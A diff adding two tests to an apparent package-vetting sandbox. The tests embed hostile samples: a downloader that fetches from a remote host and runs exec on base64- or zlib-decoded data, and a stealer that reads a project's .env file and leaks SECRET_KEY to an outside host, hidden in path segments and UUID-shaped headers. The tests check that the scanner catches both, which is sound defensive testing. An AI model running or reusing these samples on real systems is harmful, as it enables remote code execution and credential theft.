@@ -127,3 +127,65 @@ def test_the_candidate_cannot_read_the_plan_that_names_the_stage(tmp_path: Path)
     assert facts["plan.json"] == "PermissionError", facts
     assert not leaked, leaked
     assert report.verdict is not Verdict.INCOMPLETE  # the agent itself still read its plan
+
+
+def test_a_downloader_that_decodes_its_answer_is_not_clean(tmp_path: Path) -> None:
+    """exec(b64decode(answer)) fails on the bait and runs nothing: the run looks like a
+    library that parsed a data file, but its sources match the static decode-then-exec
+    rules, so the fetch is not LOW on the bait's word."""
+    r = Randomised()
+    host = _host(r)
+    url = f"https://{host}/{r.rng.choice(WORDS)}/{r.rng.choice(['latest', 'v2', 'current'])}"
+    decode = r.rng.choice(["base64.b64decode(data)", "zlib.decompress(base64.b64decode(data))"])
+    src = textwrap.dedent(f"""\
+        import base64, json, zlib, urllib.request
+        facts = {{}}
+        try:
+            data = urllib.request.urlopen({url!r}, timeout=10).read()
+            facts["bytes"] = len(data)
+            exec({decode})
+            facts["ran"] = True
+        except Exception as exc:
+            facts["ran"] = type(exc).__name__
+        print("FACTS " + json.dumps(facts))
+        """)
+    report, facts = _vet(tmp_path, r.name("dec"), src)
+    assert facts["bytes"] > 0 and facts["ran"] is not True, facts
+    assert "PS013" not in {f.rule_id for f in report.findings}
+    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
+    assert report.verdict is Verdict.SUSPICIOUS, [(f.rule_id, f.severity, f.message) for f in report.findings]
+    assert sev.get("PS002") is Severity.MEDIUM and any(f.rule_id == "PS040" for f in report.findings), sev
+
+
+def test_a_secret_split_over_an_ordinary_get_is_proven(tmp_path: Path) -> None:
+    """A stealer that reads .env and sends a secret's hex in short path segments and
+    UUID-shaped request ids (each field passing the accounted-fetch tests) is PS010."""
+    r = Randomised()
+    host = _host(r)
+    src = textwrap.dedent(f"""\
+        import json, os, urllib.request
+        facts = {{}}
+        text = open(os.path.expanduser("~/project/.env")).read()
+        env = dict(l.split("=", 1) for l in text.split() if "=" in l)
+        hx = env["SECRET_KEY"].encode().hex()
+        path = "/".join(hx[i:i + 14] for i in range(0, len(hx), 14))
+        ids = [hx[i:i + 32].ljust(32, "0") for i in range(0, len(hx), 32)]
+        uuid = lambda h: "-".join((h[:8], h[8:12], h[12:16], h[16:20], h[20:]))
+        hdrs = {{f"X-{{n}}-Id": uuid(h) for n, h in enumerate(ids)}}
+        for url in ("https://{host}/static/" + path + "/logo.svg", "https://{host}/v1/status"):
+            try:
+                req = urllib.request.Request(url, headers=hdrs if url.endswith("status") else {{}})
+                facts[url[-6:]] = len(urllib.request.urlopen(req, timeout=10).read())
+            except Exception as exc:
+                facts[url[-6:]] = type(exc).__name__
+        print("FACTS " + json.dumps(facts))
+        """)
+    report, facts = _vet(tmp_path, r.name("split"), src)
+    assert all(isinstance(v, int) for v in facts.values()), facts
+    net = report.network
+    assert net is not None
+    assert any(x.canary == "SECRET_KEY" and "joined" in x.encoding for x in net.exfiltration), (
+        net.exfiltration
+    )
+    ps010 = next(f for f in report.findings if f.rule_id == "PS010")
+    assert ps010.severity is Severity.CRITICAL and report.verdict is Verdict.MALICIOUS
